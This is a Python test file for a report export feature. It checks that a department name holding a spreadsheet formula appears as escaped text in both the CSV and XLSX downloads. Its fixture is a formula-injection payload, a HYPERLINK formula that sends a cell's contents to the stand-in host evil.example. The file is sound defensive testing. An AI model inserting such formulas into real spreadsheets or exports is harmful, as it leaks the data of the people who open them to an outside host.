"""Spreadsheet formula injection: a name someone typed never becomes a live formula in the
quarterly report's downloads."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Legal")'


def _report_with_evil_department(client, org):
    marketing = org.dept["MKT"]
    marketing.name = EVIL
    marketing.save(update_fields=["name"])
    client.force_login(org.olivia)


def test_a_formula_in_a_department_name_is_text_in_the_csv(client, org):
    _report_with_evil_department(client, org)

    rows = list(csv.reader(io.StringIO(
        client.get("/reports/?format=csv", secure=True).content.decode())))

    names = [row[2] for row in rows[1:]]
    assert "'" + EVIL in names
    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)


def test_a_formula_in_a_department_name_is_a_text_cell_in_the_xlsx(client, org):
    _report_with_evil_department(client, org)

    xlsx = client.get("/reports/?format=xlsx", secure=True)
    sheet = load_workbook(io.BytesIO(xlsx.content)).active

    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    assert "'" + EVIL in [cell.value for cell in cells]
